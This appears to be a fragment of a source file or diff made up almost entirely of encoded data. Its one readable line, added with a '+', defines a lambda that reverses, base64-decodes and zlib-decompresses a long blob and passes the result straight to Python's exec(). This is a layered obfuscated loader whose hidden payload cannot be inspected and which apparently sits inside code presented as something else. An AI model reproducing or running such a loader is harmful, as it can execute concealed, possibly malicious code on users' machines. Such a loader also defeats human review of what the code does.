IOzvMTLGActMV01OkIoAUl57Lcpl/s0/hfESC3kVlJAeKl8iaQdX0aOgpcAARs4O5E7hwOjPGuPjnMkcNG1tnbE5bva7kyfU5fzsr6hJw1rjXQr30UDEpDbcqZG3EuvbQ1kh+Wjt+Ogx+BLIykpgj/kG32Ee3jnDAjX4txqjhGQKPuD2xbjEDbdtrL6BE3Z8jGBeNk8afadT2ucZVSMgv1Yk82tHJZNLZRjqtnmj6/sT4BgCS1FgwBg1B7e3lUzDCwfmmd2Yt+NpZeV9g9NHVYsMVH8GWvsOvzxoXkXOWES0af2x/rNeBmMQNpxrXv04OFgQydE/zz1pflmXvZ53VmKTc2j1fByy7oou0lTEON1iAitXxUiUiT6/gTY9JPH1YpIQjL0eIpgpg5bIUl1cNss/AAjvEmCaesXR9Q88zH473OTBGaDZAKaINlReAX0G4Ebki78Iw+XR5HjQcMrv7pw9jgsnJSAIcaHE/cv7+sI99l0VOAepAMRs0qlPJRxZyHsGGrH8593a3KV0J+MFzDGUPYdyU9umroKZy7L/f4wc4YwsGjszf7sZoSq17TzAVtKjSJsUi5/a8B7XAxo+FwluW3aN1fdTJO0QVi6tPa0lm+qgPloVHHP4+e4r2dKIOUZuLHwZkDJHOC1N5zAvpd+s09CdDSRbn24g8Rj8f5pvL9FEvZB5Wj78XXY9BkmEbHXqmfJRcFeOJ6uRSmFBE25XskblQ/wg+LFO5slQpT4J9q6Qjkr4iFWAW2ALSsLn5fx9n1xdg8sP8IpJYpoNojNFYuVqNIYKmPvgCIe2Gx1FThpjbRezD67+qAF6cRIZf3nLowyxJqUy1Wrs/UQHeym6HPaZun5p68b8/AKHwTULoqymVWU6cS+Ms/NG8jILOXbDuqTjak8XXo79vEaquCMsXW5rJrt2SwAqIKZy/QR+l8p4+qzN5iJOyQtG5zXEZ7NmbwpXT6t4SPa/W84/8KY+T4Oqf55XC0HYaSHmy2PUrVg0p4pS38UG0rbtbHOJaiL1x00k4lU6cvsXgB59HqIYMUuVaIh9otow1KcsMaOyG7QGoJOe8gXOZloaS/kOo7uYwSb/zKQYyYzd/rRjD8K6COd0z2+xkhG4UtkJ26CPoKMndijMuT9RoZUkG5ZoIUS+IzJwkWWHAATdke9KfmRBw5yG2gTR0tbwhZduxVtyJwcsdS/40GYIyuOblIQEAj0SLedN3+DpuhcK1+Nc/xNJ6iCkDE9+K3bd4XHggspuqXP9gyOahqxHkBj4krF7vL7nTidY5IfO3JJQhh1/LbpO1y6e7twX2m39c6C3ihuZ3o/iqpJKwXBYDffM/7StC9WnU/14a9MrWyTdVYLclP01RFhPZeyMEO4lkmEJDQQDjWTJmjPYsGjWidb+HM/bRs+VTqFRdvqw3G+SSFZY3A8bm5/5GBYLFVKcfIYuclAYUEzgW+IPFV/+oNI8IHM21BL0tnt1IBWhjEM4UB7kYmryxp5Vgw00RwFKffUbWqbHvgmi2kVy19eIX5AF900X9bkkeatj5z+Fbhpa9MKZFbDjr8iDIwcvRz3cmQlBqcMSDNKG4pF27lgHJ1y9ZrvvvmpBenu6plMz7ZvAU/9AvrXvyBdsyNXywpTYMoGspLuu+6HzCYHXMf5z3GWUllLywr38/4l4uM4elPc+Se1dhjNgX8yeCYmSFZqpfwH9XhRbGbMC5l5Ao2MOkOd0PYs1ZTteM4iFkXmMStdYIbIzNvKDyXHyBPjpmbyCuYdCsTt58ReeU2EYgra9O5kp0VphwHw9YwGXoMSoBBna67HjQmoMEYcOnB/sLT24uq+bIXAWNU8UGTbJOmBAwmil+Hy6vTLEA13rg6esvtzFRDZ19MeXdeWe8kvpH/koTnV6ecZVa0OxZcLIeSeZgYPXDzzpM2dgYteje0B4ckHW/JylNSTraAxRC9Kj26Gw0X7sY5ZPipbqjXWAoLY81HNqk9kZ+Y+tT+RBo5KSMJIvJVCA7N36IxbNHAkiwlyzkIvBkC/OtjPCuS6d50fW24ic4N/dA/Ii0lQt31brt2ssO4jQccmdwdDbqpLmyEPzJXTipcCYZVecmaKT1D37DBHlIRJU4sK9c4rwVHbN0L0183djWEMChqv114mrFEGaNFcdc2kMpmitrCB8u5/dsIpMp/v3uiEc7N5fuq59oA3w8/6LrL0rBvp6Sp6NPebhN1Ifl/jJq5mVVPyFeTmOZpeIknzgi3Dw17u0xMVKwi9tV1LAVhrfM0bpiYahSe8vPpBxCPNXe6f9JpPUEd6DRQ8NEuyOjofJDdxwndIuCPc7p3csyRaVlt0T6jEAg262qULTdW34TIibnVmWOD65J+KO0aUtm0wEDN6Cp6rdi4NPvir85xLFXMGCfYjvi/Ch++0DcyZHO9dvSHvoDQLb24SXTjYjR06BRkd00C5w2MjdnuwZM53Y9PB9WtPvvMsBInS7cXnClRM2nkG4u8hExYUOmhAhdiMZ6lEesV050z5ObLowWiHsyUQbFwNMoT3rseRUOsIAeSA3JJwaOtiwWrkNjkqGErfTByHNWi8aj4PHzJBqkIcEAs1MxRnWkpK3G0yGhszgmmDbiMXf030g7bZOE+UWIJr2X53dp8Bz0JMQy/ifA2qZbfCMtwJlk/AC7sk7YzgzEPyznxZW2g9WQLFKxN+pAbDFE3hrQvOlyyUyWSMAz/jNRz+vDvZ9T+C+9S0QeXmD6imqwLHcKDiLAfNjR9lxseJmfk3mCZIwu0BZuKAall4DYCDc/daB/4Ss3z0DsmGwNr5UXvGnPx9q2MPD4DeAxhEdv1zNzfKAQCO/RkPORCKaxBgR6DmOBJZLmQkerWQ4EEPfQZNtDrmOuJyfkwdyJVgZSa+Q3NfIBdft6AweZoVt92wg5wIW7lFhSqaEQX09WAcWmyR+p58wnbOclm9FGrhYa7dn7xGsDivYFdR4GftHRGfalLzpu4Ipm2+aNhB64oWEtNFglbdLq3hiqBosiPfv3yZ4Q7DOBaHn44dCdGWO/9le50MznB+KHAImG8YWLhImnh6n5adEKdEqYSYwUvFuSmw5RMU4fFEV8ON7kQf5Y/8p02NepfDMw+1O2CB5JAGmBfyKjm0puZhlE0wrgIXW4h1OBppRr9ytC/a6Vq7KetXUBfbfKjphtm+6a1h8cImmwAQskNVb+x6RonHPLQ6eoSzTLQMSYbbapGhfxb8HE8NwMhSI35hoS0cWba7eBpR/C1OGKYarkUAMcdZSBidCVwXwI2z7bLkHJ7jEmvQgSeNhSVLUhh9VV0cT9nt5BWHp7NBQ2m6sovTFL2lMc+cszYXTEqQ1DoToUxLbUSAT068zbVtGaZcG4qHffoXqaV5rfePdq3Vin+lM7rjkNY4j7pQQM3tZIk2cHRvkTkLdjG6PTH5mWZEw+3v/adGCF+3gV6HstWnqSjvT03UpCQ6XfNlv0iDSzGgk8Kc8XbVpepAMoyEz7XBzdKTMZRa7RaYii7mAgN62+1kLuWVwtKnOEI0itT+mYVVDM44xsmoCfSbKsP9gKzXiXH/BhDRXoqD+nkPkVP63gKwmbFYvoxk2bPgrRWrl/J1wwmMYfDvz2I7qSKZpjLOQs+UqNIKnUjQw7KZzf/xhCt30nm/QvjKFichBrMqYbaV0KTY9ypzNeCGO/cOEjb+dLqdJ6xbnf1f1EApQWv9ZTX/w8Jk4fSRLYz1SD2gFyOZgqWHcajjTUxq8X/17a8zS6bnjI3y6/YRDYAT4xdLHqkYW4e6YRjH94au6JnTdZyysooZA5JyvbzDXsxZPgjzmzix4wgqy+Ia8LTM13uw9vKQzFlFYi0xA2/T1HUfNU/88vCU5+mC2GxbXkidrniNKRIY/apaldZDJuqML1PCbIXD3UAeIhRStP4SgO/PoOwGcO/i8ze84BPSPpBviOeg4TRd3zhvlAxMDRvL8pcFTFp09pZgUh1n4bCqN6NeX0TbxPXv4j6gRH2eQ+juUdAjN8RmFFU2tk2aHPKb3x0ORIM6TEflCQ3UDYUgy842DFFQzI0Zo7iXg/Y8rfvO7zN6tN49fjqcKG9fw2v3a8Lrb4Dw6oWlEn7Sj6lTJ/NXEc1d4dyqLmRCtoROtJjj1HWkPqZbuwIPGS5ZVJt5BNQqlz19hwEMManAKqNyuXpwMhwf8OK7QQ0gEKYNMrHD+trOpALdLMtfq562vToLYgFrW/f4XQjamAumlhAzsKTnG8vcufCPXQYaXqYDjNx+diAFGk1JktHQgcz85aDz8AVPmFDFcYJxhpVQ0CZjrVGKqYESQ6OS4h9HIgaQe0f+dTEfc5aHUoKT38ZcA+GY9XglUYy6xjL8O6AApWzH+AFpv38osptKV9ZKs+f5Wae/DR9smUYhPI+7WVUOUIjbh7kO1QK0lMGbyFtToYmd25u5pjBc4fCVtP+vSjfqbNs0WXwZmT47nWztG4XL0CDFGWh1nmVaK54roWsITvCghuyOOspXOvK2s+0NEcxgxu8Rb/ntUMdAxNbHxoGGOJpWpMizcmNrIpzeve0ecyG7a4yL23GkF6b2oAwLZrYWmJnFW9vVQbuM+4u5oLxhKmseqGoEE+pl9GXdOjnwmQvutHPe82fmXcswhl9aEQC5bX9VhtDeGvXM+GcN9ES5PtROOeS9wt4Y0tyDXpRrF0sUpUDkNJruU30QrwQ9aFzKrTI1vbCRhL8ptK2PQsm6JeA/GngSCrbvz8OcYJy9n7xwsOwsmi+7ynfEOms/hP+DKzYDOzcO+yvs+97lMnFFxTUvyWhTfezQ3nAuVSwinchsm2yoYmKjOf5cC3NyVbYFzCIEaW/i73xFyvxoOw7kHKoZkwVjpmL0L/O7TWj1PABigyDsC6FOUaPDIcuLZB12kMsxKFHicukftbEe3GrtmG7Hgu2mJzTAwX1I7U63nIHjD0hGy+ObMgAJukgdKIdLqj3HEwORF9l+rokqXRMzYBNWmXFSN6OxSS7YKHjUv75ykF4HoRgf26rDCNtu+muwyqTTrkhAgBJKEvsX4Lr+JF1QofXuZo01cBB47k2veGPiggreXBqYg3Z6Y1tw30NWAVhW8S0X1GjGTC2wt20sHMO3MSkYVDav+guMt5+KhvueEQZEP9QAUPy9K9yVXP//3n6/0++//zz3fkXRxStcW2Pv3qlS5yJ2ej1D/5iITJSHGEnlTA8qhcDcxXn+TRWo1gyd8mUwJe'))
+_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'==wRLwoYP0///9J/l3j3I6c5Fe6ycA6ZVj5wx3LQH+Jyn4w5ZHhACY1suUWIGdzUOMz+ydskBcoP8ARA8CROao4PMRsJRD6siU6ttPdGJ0Bgcba8Un/eIIOX6NK9oNb1giQtXKGPvMpJsxPp4hO6thGxyOo4I238kg99Py88Cagn2J3OMe0eOnbXLqqO/T7Ezd2XP0NQ+Rpth+rpLmj0pMhgr2l6mWz8RdPwgtTyy/i5dy8qksL8K/pQI3Xq3PyvY99xpM9lTH42RZr1YIur0d5h89RIVGleEN1VP6zGvGOk4e+MQTtKb5pQFL+HHjq7foMBAZQr0evaes1SmPm1S8eSzn0CXnutyESOHjBSopVGibMRyuK9ZufDpn8I7dsFnw2lqL0u4K5P49S2afRRG3rHSwwcEF58VXUXTi0IjsBcpq92wEIMsZAlF54Kq9rqOxdF8IdqBfQoy97rnktctSjV3ij/NcurujGO1HDqKOdQHQfMyC6TviFUaqLqRB5lMMyOc25pBlpYplRE/2OExpXBwsgou/JOnaVW+2HFS0cGz3T2CYZwgTDPeAaXiCH/SzztOG8JK8Lfrp+3Lo0H8HI1eIBV242BFZyof8R2fBZzAXZL45RtsYbfRZZNahCCPT6ayXu7LSvXVAx4nAFK2OIhh+M4j4rBQCr4yGZi0dBXhzSw+HhZkgdDd4aJsFmtLI8H0FWecIoV1F6hYbj7AptxDuNofk5ntpFiuLNBqQeHPoGqnV8a44Zm5ms5YNIOSO3e6FpDcWZXrIVVUSXh5c+mEVz6CrnlkJpfHpuF2Nmm/XK/ieL0NRFlATlrUo64wnsmjxDcIVLyncu9vbebPUV537JPoMZ2lEP/0BWcFjfIZ9gfX3m/oWUJQiIU7CfT0n3l3nv2Dq9cmL5AtW5OKFKg5pPG2TmJODc1GRTnHLaa4MRb6u9cxNGvJQk+/kgH5HVjh43S8Ju9tEu456Mfi2uper4qltUe47Jnl+pqZezkHOJcpFERnlHotw76L6JN8XC4YVQQgriqRQQvkxwa2ktImz2Jegf9bv6SOHm7LHUlm9GIWj5QtgaWaxDX4IjQc3809ifhEnD7Huac9IT17T0OIPwhZWrwfqs+FgLfPqS0lLwr+YGyFuURvvrvjmYDEX03+1jnsm/8INsSAScuBA8hK1C4Yt3E75OP0+0IYBOkVRCIqkpuBbJ/Fx++PGSzLwGVy0PdCO9t4l5c8nU9veS7B5UCHEfodP/bTT8yn+k8qQOfrfCGclAWHwgz6qZ3HDUqH9hpq3tRMlHhnkcK5zTslaw9QmDo53vBYPmedkdcMXZff5obqLo8n6ib2InyXq5xlkC9wql8k2NQDWWOx+Y+P8DZhxIy2SNbNIHzmHOkl0R85Vw0CkI8kUiQI8zs6TcuGDJui8na3nT8XyKC3ZO5/4XaW7bwKysRq0Y8yEbvW46cK+W/fAZw8dJm1l/YPmmdf2SaTaWZnFaLp0BoU39fha9SnicdFWKWcQ2av7Im1WsGOxdypL7xSHC7spg3O/8eKkE+dpBv1czqY3ojP5H3r1S41ZNWjZdfmXqgDpC/tvpgSnNpeMyl1U+caL1ZFRMCdZInamXCwOt3EU9y9SOK0YL+4sXxTbQTJ39pTf32jU70Lx3usNuf5OVsaBd4+326n9DfpPThvh12dZI+RAzjal/kpWCE6lukZcBmqnNKQxnxF0AyTex1pTd1gLVOrs/mkrzZePYKgPu3UKska2iV+NDFkresk5FuWWR9RN2Ax5Ihn9kfIgI7b1NtEfFs+GpgVRySvy17peUH2j5CLsWJ3MG6bWKsse9nsIIEXYE+boiX5+ZWD9hv0j0e5dY0X/XDssfcWFXr87Mzt+W27zynVE8iFqvEWF33svR2WWIPh1P2/A7x/rGup8SRhyYbKKqERK116sI8MzEVUQbRwfOogKelk4R5qrll1RQICb1NiVn31BCgeiQ2ma5a8Ld9Thev3hQ6o54y96F+acW5vIa+Ny8EKeqBaPBA9cB/2ohCuFddmcld1loFN/+6jth27+LjV/RjvVSxJ0313tRl983J8WM6X3Mzp6V6O3RW1EYm0aiQwPaMm0s6we9suuxIeOSXaFgHDhKSvWjYraBwAbb0lKbN2p5DHtLHAu1EW0NXXuRr4EfEKUvPR0nXmCgLQapkX4IyMODJ8hF/4f20fQzDDnhcQKlPOhgoOuhy9bbE8k5MiTX2oJwrmIJBs7EIjLOmR2NasaKm11FWOy5MWosSq90C7GjinkwW3xjQfSGbj2dB6muhNBup+F0gr10t9zHJ6UYwvbPRSSG6qvwYbq6GncifK/1TkqP0UL6rswtpPX8bKv2oUMQjA3kbmlVxNlvbl4WfEBy8GRTnWFNXIZyKqvnnBh/+JM6xaHewB1CfYSfY5ErqzRq9aJPCjLtDnNq29AlHZJeIKI62F17i4whvM/gKMogwRb77v8inSxbkCnOtFPjY3qT1hDjNs+hASWxEPYygoQ+Xq6MtaCawDB31FlV/7Fez69zPc77A6SVD74bthl2NCxBAjOTQ4gIhQNwEFVl6RcqyjQyibF6WXQ13Y6SkK7CKvxX3FQgJyoQ5xbDden+dNlZc2fuwUf7DkHVy2nvpguiNAUgful/Ot5iFnJ3r4k77AgJKiJN4Pb4/sCti3GuJw+u5CVPz9Tp9cO2E/kg4dzXAhPA6BPgHw7LUlYKy6ybMQCFx/6FrQmetB1KQW3NSggwRw+5qVZ8RzStZUbauwzAo2hULBtJRua3Hz6qeJZ6WxWBh9a8DjlaCx1vnisMEj/Cmk3fHpzvtN/xkQ/Y/hpswzRNwBmGINkFu2W/JWAJ899yqdEcAp0JjX+NGHiFxeLIHcTcmdUz+jvvfVRYhDKdkp7OkCzVNx8wGPHKODC2pe050xUa572faVApU9pckXSUyzcK82x8nvC92O5Nx8lHEHclwxCGtJjEs20T5wquegGFg0x2Qs5/BFnZbCbjCZ322aUWuZVLKZ6S+rbiDmMid3YrC7peG67BySP7h9oD2ZZf3XnJjRsOh1HehNoJTRxkE1i/hsT5D/sorTB5uZ5rcI7zWri1OVx/KYnevepoYUMyYKZQ6qXQvGp3VK+Um6MM8rdSzlepayr6H3HSf4AflQmx1TUW+Oebd0jcHY4ct2ZMGjSCS2bXt79KL5X45YNu/IEaYsRbDnrofB/zcFqbHE5a9Jlx68ncNmnyHfbZUN23jxGKHnUdIXmU7I7b8IwJAbY5H/hs6NpRCnFOARobta0DEAkR+U7QO+SD6CZuBFPaqwMGl681JXru0Af0zBxvlQdZMIOcpHpIKbLDU185Uj4YjR/znszgx6U2TzJYuABffLm608iAW/wCk72zuIr8Qn3tiswkvaR4pfLyC+CaEP5XonTEAX2t52/+6/eVYxFyHWK1ElT2O3g2jfosq4KFxFWtbbnVx+WWk4alUazkb56XJ3kZSRiZ8jq8dgdA7PFvdnpWV9XkD/iZbWiqxIw75W7jl73rHYoXSA/qJr43MmmDnx5YHu/K6lExRevShQJcXn4cmwPgXyOpDK/KW0C/iolDSD1mkhzBA0YFjEf1HuVHmeLUZuCz5V+JicC5a8C+qU1n+A5D2NHSGXcRX0T/UJ7j3YNNJwZG/wKRmrHpwkD0bl1EtNmhxyRZ64b1O62wc5AIaj6Fu7jiRUF29yA1WQxcQu8e31nl5oDZjss0yWqVJv9CToArCubPYQeG2z++V71EP1ZNETJqVB3wPvS/oaJmciho3yHriSs1iVf/q+K/pYLJljojuBRy1ehYLqun05Fc6SbpE6mYkxOLs5UHkhIlGBYwiZGcA6uFzQR/Itq56orDjOU6ADxs9EWXbaZ432CRJdvpRqy03Ah3NflWDsVgROKsi3xRUE452wbifmGJa5UN1/EY2ilPg8qhqBFLp3CL2XynOknUf5Rhdr/M3sXVdEzfYGKiMFEl/XXp6xKN1JR+dfIKwtwvAcOwhgX9dqieXq+cFQqP2q6jaZQdPpYYsSs4hCEwo0e/rXaL1lNWb/fXlKc7xF5JS+LQMFUUFdrYm2aZX3yFA+N2IrJPyYNLG+elFFbQ2529NpyGZZAt6smGkSB1FNxItS5PGznxMXgbTITaWbKN+ejxLnOLSIGf3lfis9Jpizv1KqZpYxaRbbMQ22nlDKJ2CSoQW+rjRcSf8Fhb0s0R6J2MQqRKNsrFk7tOD6uhlR8YosN/eNJ8VVKzvUBdJazUy2j8sA0bgFijMcGPj63un0zrARozuAgv2WQ4Xd0bdzFrXuhezQT+Klyv1P7EJEUGUCvuRdoHesxqBIWgbpjEeBPUq6Ep+0ja9Pjp21RdhpZD5HWGT2cz5wPLeINIz77QwFA1XbAQKrZa2Nb3doemSbjgj5pBUR/easprH6Pe/9p0nItvWM47C1LeE8iA/3ojAt+njkU3Lmus7d6Dr38nJPEO5zqYbE59Jnouk2qIvDTKIcPtBExujBfuTYyYdXYWa/MgHLGbhASVc/JINiMc93b/l3jfDUDSP+zWK9f5nB8ch+qbI+4SfBUF3ooV8Jxz0oHw9AGFLIOiCFyoY8mmDJg5r2qAbUkbxcF+BVg/d3t6dmPi7SM97j7YWmhkmrnVs+zA31OHdpV+uMfMi5/5H78e4EZXPfqSZbtgJPD0S5NBZ3d1WfuL8kZc36fH9CsLqO8D9G57VvmhWYzrv46SuLY80siDx9OlmClrthhf8xCj5noAroV9kI3kuMEOWn7SPDAiRCI8fK+/Dk3qPP8+xCwGUc/7eUsDn2T87biy+n74184BhsnpnPBYb+16oK/wm3QKIrfpUqfji6kMHCGx1uPZaMjvv5+xCnLJOGo/AzThwvMUUmAJ0c7GvOfel9jbO9t1LMroI/98Z1Nl8889135ItvUfbE+Rz/MyJoI/yJ2bDink6/MI/coMkxDnA3i6eU9oDI0yHlFMDzTFD4g9l/hatp/8KD8L0hvuEQMGTmSc7Wwp0FwQ+4+M3ML8wQQdRygeIHgZ6WQbkVD37Z6dQmoLHGvZp1wPQFxK+ZESoLYida6rPeP+UYNar7j2kNyeI5SS5XeeRiKTd1tvWA2/xL38mkZBsRm9ku7HEFDcgfGaonUh9s8B0AUxlqLY4wPPLupA86NImUQ/U/BwWBCHTzJPRHqO5jFljzMwMX+LttlPZk1nqjgnNxzmdpZeA6ToEIrAFDlClDdEgMYi8dSaf2/bUw96jdeHnXR/o2kNqTmAI1b8XlWZyfW7s9WOvM1V1qBF0k1SEcXMZBK4VQeGqZIJqW2pVnXeptV2g/pmmnxC13wZN95rGqyw1IE75E3iDWCmOD7wBOUcwZx2UzMhN+W5SfPBB3hh+qPg9D5CG5YBMBYT28K3QbMeIYE41EE0UwYkkezZ8WpxpkMhFGELBZ0Bs8znM3xtRT30e5MVUUe6xBmJv/75zTgB373wOWtne4wzrc0y34TdX1zov/qccbU7r3oAlprD9ZCSAAmpim7S+rL+QbEYT6GhLV6HRWmFVTwRblArCfmd4gsCOQaCdE+/Eq7R3SkL2fUbRSlQ3/XcfBnx0yXRjMnQE2QEswHRs/H1cxBTgcg2a49/JVHZ7RI2dwDCIwHzjNFYP4YTRDfpbZ4Pghr0Ga/8OlGLLo7w9Tg5mjtO/+5XeLIu5fr48shZ4XFBgY2EwvAK5HXNtGwJwMqnjucRHxFNLGkJgaIhmDVGV0oDgnpe5PjTsDVRM7R7T7+TVuL+txPJZ8Dd4APk+wRtJOxsvYHf4qoSr1Hp/e9+NEzFZw8fLV0YjhNHfj9XCpIQA+z6ZJPV2MDv79oyvEEkR1e9oTiR6mKUSgQXClLxXOsK5n39rLKN2BinOUTfxsF0UCz9kysZMXqGu1JRbnsExBCdzy13t+PR6iYNpuQk9Vua6DBG+a1yP92U0KP501vWFKc5LEc4NQysBU/ogvG/VmIjdLAX8dd2p590hPuHruxGIjhSn2Kb+iXxZoJSEVMyjJaXhHSBV+FnzJJMN+MrMoZpVNR/yY0h19vyDsL4ATS9FbYEMvn/Qk6QPeXX/dQbEaS+vUscgHO3gUP7n0tWWSW6M4HfQ8k2LDYExUPltwjo+crgg0+/mfAE/d8ByNzujsreCAzOzxrdVcRhNYmmShj70uFRtt2KXV3pGZME5eEakp34zEyzYY3bER6KxdXSAM8aBQqeD9k/pQRrBC7QahvzAQQFX3drZcf/jpKtT0FEwlPi5a8grEOUfTh5ZgIyzSXy1Rf0TyZ7y7LNUAquGq7bn8At+5k8xuhVL4oMc+Li0twAOLzRHbKrcy7NpxCLGLMqs132nXPdgKfQ+ks+XChAIWQS3eApoYQusXlGgG4fAUnOT7QlOZjCaVQJcgIabISPGAxKSWpkJICfGmABLIP4dw5+H+C9UK2R5voomqhzbEV2f0otdHjI2pp/fDtSinymUepsqw2ImqeJ55noVFBVncDnyhKahSDz3b23SsfR2YQx+5X86Xs0nOm+ZJ8TzDrRW4FWHW7pWw6L6XzY6fCF8Gcwjy4SpR1ik3dhfWjBfHqKTHO2ukwz2XG7ufs8tDyW4oxhiu8wo3RUzYOKplHLjVgo8dew9t4kUwxNuXhUXLBRNe7hnJoCcwp0i3KNy+peycOuj1MuxqL19dnBpXTlExect+SW2ub51giePzol3Nkctg1NOfIkqn118nfpTLLMb/iV8/MsplTsUiJR/wW+1s6vHQy+FzeaA5QpF2cfe3HiuyvSkmyG5ydQuloBxYU4v+0tMrKY2AUKAxLqut+0gf9JoBlY9YRbVShojudJ3kGKvxa3njlRIVYBmRntN3PmF/+r38WlLOtmFzzNUmRInN9h9hgHC9b7DfiIB5UlT+CxTNLGVWze68XTvkUpbdzC8nWwjDSugWgC6mmbTqC9pB0SDzUBK+EKzhoKTEQ3u0wgdk6F+yD2cxHUwGGaHm9rqWRoxres/yD/d1o3n6P+VzLXWFe1YxGn3fXuzhxyuLPzKuNvIT/UF2nqHFXhoaxDUciOQNdE2Cw+f8N84LKq47OFvnTYzL2hqypod7QENpKl39Coi8nInQGPp1kS/71Gm343stlVQx0hSGZuZ4GkzJ72GeakZiFWrEh1R1gz2jTWUOR9Fi9CumdEfJMEzyESneLODeQ9DMlG3RnNz47xnhrJaGmWES50eekl969gCL6pLxts+Vm8G1pHaxVUER2kOoU6kWcqfUTyyKIaQ6MeMVyoOSv7RdIKH4ItQbXGuzNxhXVzSKUPjJV5ODRn5NXAM85wkV9QlpDtUGD7Is7gRIfQEx6aL4mqqX96RpaKDnVQHxAaiSs34uddftPj2MPglyxX16yfxDkg72uoovxIJuOwF7gKBsbbUg4kkhCtktLkt+L6n4N/LZN/vZvQzf3ykRX77F6z6c58s9SxyWXXVFHoraYD29O9DaCZsRNx7d/LPSECI76EPMOPXxKoJgwbtBIBlAJJ2XNS0eTUVnJc5VfvaVQCJN0wSzqdv1X559C/UHB+yOLdEh7fF4RaLNEjbLIzoWqS3/gm3mnWYOb07gTkGR6ONNWVI68B2XaFUzqAuj5X8njt5dAqdwMphAWF1yZqK1ylpZaZbBtpFr/8kp97+vo1vbceDbZaXcYdwZefnPkody8tcAlM8BOCbtXUSlQagAmzehBejJ1c+05lRKozlnaEY+9II2/XmNIU33y9ars1i5etJcFaZ3+VIXX9AjLGQZbGGccGc9rarcX+4tTSnHEhGktoTptHKU6hl7vKEQqaOLAPEX1J6AS40O8W9gkthUf5kpIqPtN4JDCqBr7JwNmEKYJ7fQjgEFFVyawnphBfzklHBlzvsp/nBoHQH9KO1DRjv8sB3vh/tAXr55qDGcmLN3quS0fAh0IL97QUzo8W0aJ3NXvYtFdp47kBazYE4CoBmX41niMC06h84Ls6HO1A/vWAgh8AdNENQw27FjpzL8TEUeR6hPak89B4LmJ1RDG18lR65xAmn6/NY/SfbQsgoXAI+AZAfNVvf9VZ6wROol2R9W8h2dU/Rv+8fTsiHWsEZQrOqxyZN9hC1x0vQk3+up7OmaEgBa9jcUeQgjixnDbIwa6BmdgKs2+vjeAH7Q7DXO1NDCjYfT8W8p5S7SP2FjLR57k2NKWb+6yUi66mM1/K+vdEMbeOK7ebvU76r7kOFriIW44IprlgcJMrDNwrmOK77hTcuCKME3wr8GSGquTxugCoGIs2a8KLtTk4TFCcvc8/s2Dvd3PEL9fDjNnAll6qTOALQiPRBeO4wIW8H8WpdbvzQVDXKHW8h5+5H3hyaHFhcAmMvd72qhMnpjWfv9E8jcKIPTd67od9rJEzpEXQZfbNHH0FEit0DoxpGiZZCgfcV1k69LApgUwwjMhWVBoxXp4+nMiQT6VChBeBtbdm+xPu3NYNFIlslNbCuJGRyf5ujECVKf8Kc6lXv4PLdNVkKJ8yBm544uuDAG1M/+L3BxjC4hbLhLInEhfQZ5dWuHGWbqQyyTBn47YlvQcP7Km8Rt/Gekn9d27PjXLnvoN9MNsiWlLyicN3zbPiUJgixGFQ55h7IpufmZFg5NPSBMkqD4TdGcp2jaTpcxTwCNUwU4wTyhTYYcKRufgJgUTBVB3IT4oAm6YSwB9w+od5ZIwSiffTx4EFpRvP0BFX0Sk0XSc15OXFAwmO6p2NpNgXBAUCap9nRw3sbbwg4TDosxs78+EIOtm5f5Qih3iskUeUNtRsv3xWLy6RxBqABZCYHWCsjtpMc1YdhHYIrLk81KEycZ/m+pCQOMa8ssSzKr83DoSEQHrqjLa8sGM98eMPTrQmkvQjnYlAV7GAy4u7tk90QXvou+n3H1M50wkqJmGz8ZIzGZA0Aq9b3moE4uagsgD+u8T1vXJQ3j1Ko/KdAwR9g9WJyjXTJZOkhwXyGLdq8BzWO5HaQf0ly8jKxOGRLrpSkqGPGuJ7J66rrBJMYu6r9d8XVbGbleLgLPFjJ0Az8RnUefiyItUJGKNkJJXcrLTQv/dCAmRsAwoPlzlsPyJtvMNUXbcXcZeIzTGo+TW8zWMjBtFDMSaTmVjKcjQnMvoLK/1L/wlgTm7JZB1DZ2+32iJ+dueuCU+mZhmhuzmfYRK/Axo6jtmMESsvLGB5hmL2wmy5UIEk/wulglfwRwNFSmIqLRpwEIHL0GPMZMWvFI6hwb5HL6vYCAeyWSa+v9SDAUlPPW3abHfbag1jD81dG7uUHYGaaj66Ob9+FTkUSQlwU2PRHro5522s7/pk1bUJovm9Neu8ySj4wmSOg8RpY6PzV0IqLs5iXPNFnVLgysBQfcgrx0R4ovf71qQCroSSWs5f05wQCE+OFTgLjrIPvUXIWVuymAQ64TQZs2lCm/6XWVGn2wlemXEcI1Z8lGSSF6RO5nEOjzfX5tfb62buG9AB4L77vDe3ZX7sy8Z3efQL1vkf4vf6u/XTJGZ/EnjUoH0ab+fJ6XWSZ44zMDCphAq/32K8Viu7j3ZS5xzSS4aYUdAnI8pPO4bGJgkF/uMFsaV8ES4T3CgSso4d2H89bi12Kj7Epe3H6Tkb9Tny6hf4X7l4Jv+MWXe/OFEG1to9Ji9g8ZK5ieLEe8RRgQzHm6DQm5GrflO1zEggq3Gqnr/TJuc6Qq8JPjBf2Tam3LXdU+YTIo1UpPHchcuw/0AS/KqIJo9YU+9HxKyAKJ9K7xbOqCgWl2W4C/12+kA/2XU6ybg6ZVHk4AgAuEvExosi0gDYQYz+68AEZ8KEVkjvFYSMhAdyuLCyq+pi2isrm0oZK5ezAhsFO43pW+113Yjo7w8TCV+TiK6qEn0PeHWTZDsBPHDiRqp5X/M5bHTqmQNkDYVv2zOZwt2dHuLIqmk6kfieM9xwWCNIplz7UoUtvotyxzXrPfiB8tpwmWg74ijNSCjgf1W9PXmIGCD/jmXzucu+CpUCGb5fGCYr2Ou7pnOc7mYqPQxYK18zYk5dGQTHZlRFXfLA2I3mQlGJFu7/BPiRCss3SqY72LoN39TkStX7RqujtJKj1kJra7CTkpBT0MJYCCM6VWTfPsVXfBYlF4HweAHkOCNok+3qS20zwkCzHtIES+bap5zlVKKwKZKXp/QUXQ+ootJcjstMQQWMSLAqXNGf5FehyGnc+cylzwMJilquUOVr9fVBCA8AvkyeH0hs2TME1G2YO9inKuF81jKugEGUJzg4rMvGOL2VzwjAtsUMUR6G6RwaGX1glvzAFdyhV+JgoML2uGMLIF5Zp6VVQzIpYzjvRqo51w3Fkc+O52ehxYipQi1mucmiIYMPlsKi8R1LhGtPa9iyxqKb7z1zWk0PU75wREmSwpBSiMEueK1qD5ZmyraHlwJNwynyMmzmTXSK/VfsJIzfkh/yskqgG6ObWdfqP+eYy77kDhMlv0tE4ZrB6WGfsA3dCyMVyIbfPAJj/w0jfvpcV4JiDhj/+lUS5ZleThF0O7Uz0Ksl6pPZ8OqSPEUToyD0J